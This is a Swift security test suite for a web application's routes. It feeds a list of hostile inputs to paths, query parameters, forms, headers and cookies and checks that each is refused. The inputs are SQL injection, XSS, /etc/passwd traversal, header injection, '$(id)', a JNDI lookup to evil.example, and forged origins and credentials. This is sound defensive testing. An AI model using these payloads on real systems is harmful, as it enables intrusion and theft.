import Dossiers
import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Store
import TestSupport
import Testing

@testable import Web

/// What OWASP's testing guide has tried of every route, the router's own list of them being the list here.
@Suite struct AttackTests {
  private static let known = ["{code}": "H18.101-260302-0001", "{item}": "EA123456785VN", "{number}": "1"]

  /// Every parameter that a page reads, and one that none does.
  private static let parameters = [
    "agency", "before", "code", "item", "kind", "lang", "name", "next", "office", "on", "page", "period", "q",
    "refresh",
    "state", "token", "x",
  ]

  private static let hostile = [
    "' OR '1'='1", "1; DROP TABLE events;--", "x' UNION SELECT sql FROM sqlite_master--", "\" OR \"\"=\"", "%' --",
    "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "{{title}}{{#page}}{{.}}{{/page}}", "javascript:alert(1)",
    "../../../../etc/passwd", "..\\..\\..\\etc\\passwd", "....//....//etc/passwd", "/etc/passwd\0.html",
    "file:///etc/passwd",
    "x\r\nSet-Cookie: stolen=1\r\n\r\n<html>", "$(id)", "${jndi:ldap://evil.example/a}", "-1", "99999999999999999999",
    "\u{202E}\u{0}\u{FFFE}", "é\u{301}\u{301}\u{301}",
  ]

  private static func trial() async throws -> Trial {
    let trial = try await Trial(access: Trial.access())
    let parked = Arrival(.refused(Refusal(.unreadable, "no JSON")), message: Message(body: Array("<b>".utf8)))
    _ = try await trial.store.take([parked], recorded: trial.now)
    return trial
  }

  /// The routes for this method, each as the router writes it.
  private static func routes(_ method: HTTPRequest.Method, of trial: Trial) throws -> [String] {
    try trial.server.site.router().routes.filter { $0.method == method }.map { "\($0.path)" }
  }

  private static func encoded(_ text: String) -> String {
    text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
  }

  /// The path of a route with its own parameters filled in.
  private static func filled(_ route: String, _ value: (String) -> String) -> String {
    route.split(separator: "/", omittingEmptySubsequences: false)
      .map { $0.hasPrefix("{") ? value(String($0)) : String($0) }.joined(separator: "/")
  }

  private static func expectHarmless(_ answer: Answer, _ what: String) {
    #expect(answer.status < 500, "\(what): \(answer.status)")
    let markup = answer.header("Content-Type")?.hasPrefix("text/html") == true ? ["<script>alert", "<svg onload"] : []
    for word in markup + ["root:x:", "CREATE TABLE"] {
      #expect(!answer.text.contains(word), "\(what): \(word)")
    }
    #expect(answer.headers[values: .setCookie].allSatisfy { !$0.contains("stolen") }, "\(what)")
    #expect(answer.header("Location").map { $0.hasPrefix("/") && !$0.hasPrefix("//") } ?? true, "\(what)")
    #expect(answer.header("Content-Security-Policy") != nil, "\(what)")
  }

  @Test("what is no code, whatever it tries, is refused at every place of every path", arguments: hostile)
  func paths(text: String) async throws {
    let trial = try await Self.trial()
    let guest = try await Guest.loggedIn(as: "admin", at: trial)
    for route in try Self.routes(.get, of: trial) where route.contains("{") {
      let path = Self.filled(route) { _ in Self.encoded(text) }
      let answer = try await guest.get(path)
      Self.expectHarmless(answer, path)
      #expect([400, 404].contains(answer.status), "\(path): \(answer.status)")
    }
  }

  @Test(
    "a hostile value of any parameter at any page brings neither markup nor a file, and breaks nothing",
    arguments: hostile)
  func parameters(text: String) async throws {
    let trial = try await Self.trial()
    let guest = try await Guest.loggedIn(as: "admin", at: trial)
    let turn = try #require(Self.hostile.firstIndex(of: text))
    for (row, route) in try Self.routes(.get, of: trial).enumerated() {
      let page = Self.filled(route) { Self.known[$0] ?? "1" }
      // What is asked for is bounded for each address, and time lets more through.
      trial.time = trial.time.advanced(by: .seconds(10))
      // A look at a dossier takes its time, and its page reads no more than these.
      let names = route.contains("{") ? ["lang"] : Self.parameters
      // A quarter of the values for each pair of page and parameter: all of them would take minutes.
      for (place, name) in names.enumerated() where (turn + row + place) % 4 == 0 {
        let answer = try await guest.get("\(page)?\(name)=\(Self.encoded(text))")
        Self.expectHarmless(answer, "\(page) \(name)")
      }
    }
    #expect(try await guest.get("/dossiers/H18.101-260302-0001").status == 200)
    #expect(try await trial.store.parked(.one(1)).count == 1)
  }

  @Test("a path out of the site is no page", arguments: ["style.css", "api/v1/openapi.yaml", "dossiers", ""])
  func traversal(folder: String) async throws {
    let trial = try await Self.trial()
    let guest = try await Guest.loggedIn(as: "admin", at: trial)
    guest.setup = .live
    for step in ["../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..%c0%af", "%252e%252e%252f", "....//"] {
      let path = "/\(folder)/" + String(repeating: step, count: 6) + "etc/passwd"
      let answer = try await guest.get(path)
      Self.expectHarmless(answer, path)
      #expect([400, 404].contains(answer.status), "\(path): \(answer.status)")
    }
  }

  @Test("no form of any route is taken without its seal, with another's, or from another site, whoever is logged in")
  func forgery() async throws {
    let trial = try await Self.trial()
    let other = Guest.seal(in: try await Guest.loggedIn(as: "lan", at: trial).get("/").text)
    let site = try #require(HTTPField.Name("Sec-Fetch-Site"))
    for route in try Self.routes(.post, of: trial) {
      let guest = try await Guest.loggedIn(as: "admin", at: trial)
      let own = Guest.seal(in: try await guest.get("/").text)
      let path = Self.filled(route) { _ in "1" }
      let forms: [(fields: [String: String], headers: HTTPFields)] = [
        ([:], [:]), (["seal": ""], [:]), (["seal": other], [:]), (["seal": own + "0"], [:]),
        (["seal": own], [.origin: "https://evil.example"]), (["seal": own], [.origin: "null"]),
        (["seal": own], [site: "cross-site"]), (["seal": own], [site: "none"]),
      ]
      for form in forms {
        let answer = try await guest.post(path, form.fields, headers: form.headers)
        #expect(answer.status == 403, "\(path) \(form)")
      }
      #expect(try await guest.get("/").status == 200, "\(path)")
    }
    #expect(try await trial.store.alert(1)?.heldUntil == nil)
    #expect(try await !trial.store.parked(.one(1)).isEmpty)
  }

  @Test("nothing is done by a route that only reads, and nothing read by one that only acts")
  func methods() async throws {
    let trial = try await Self.trial()
    let guest = try await Guest.loggedIn(as: "admin", at: trial)
    let seal = Guest.seal(in: try await guest.get("/").text)
    let (reads, acts) = (Set(try Self.routes(.get, of: trial)), Set(try Self.routes(.post, of: trial)))
    for route in reads.subtracting(acts) {
      let path = Self.filled(route) { Self.known[$0] ?? "1" }
      #expect(try await guest.post(path, ["seal": seal]).status == 405, "\(path)")
    }
    for route in acts.subtracting(reads) {
      let path = Self.filled(route) { _ in "1" }
      #expect([404, 405].contains(try await guest.get(path).status), "\(path)")
    }
    #expect(try await trial.store.alert(1)?.heldUntil == nil)
  }

  @Test("no route believes an address, a name or a host that the client says itself")
  func headers() async throws {
    let trial = try await Trial(access: Trial.access(WebAccess.Proxy(address: "10.0.0.9", header: "X-Remote-User")))
    let spoofed = [
      "X-Remote-User": "admin", "X-Forwarded-For": "10.0.0.9", "X-Real-IP": "10.0.0.9", "Forwarded": "for=10.0.0.9",
      "X-Forwarded-Host": "localhost", "X-Original-URL": "/lookup", "X-Rewrite-URL": "/lookup", "X-User": "admin",
      "X-HTTP-Method-Override": "POST", "Authorization": "Basic YWRtaW46YWRtaW4=",
    ].compactMap { name, value in HTTPField.Name(name).map { HTTPField(name: $0, value: value) } }
    let isForAll = Set(RoleTests.routes.filter { $0.allowed.contains("") }.map { String($0.path.prefix { $0 != "?" }) })
    let guest = Guest(trial)
    guest.setup = .live
    for route in try Self.routes(.get, of: trial) where !isForAll.contains(route) && route != "/login" {
      let path = Self.filled(route) { Self.known[$0] ?? "1" }
      #expect([303, 401].contains(try await guest.get(path, headers: HTTPFields(spoofed)).status), "\(path)")
    }
    let reader = try await Guest.loggedIn(as: "thanh", at: trial)
    reader.setup = .live
    _ = try await reader.get("/dossiers/H18.101-260302-0001", headers: HTTPFields(spoofed))
    #expect(try await trial.store.looks(at: code("H18.101-260302-0001"), limit: 1).first?.address == "127.0.0.1")
  }

  @Test(
    "a cookie that was not given out is nobody's, whatever it holds",
    arguments: hostile + ["", "0", String(repeating: "0", count: 64)])
  func cookies(text: String) async throws {
    let trial = try await Self.trial()
    let guest = Guest(trial)
    guest.cookies["dossierd"] = Self.encoded(text)
    let answer = try await guest.get("/api/v1/overview")
    #expect(answer.status == 401)
    #expect(guest.cookies["dossierd"] == Self.encoded(text))
  }
}
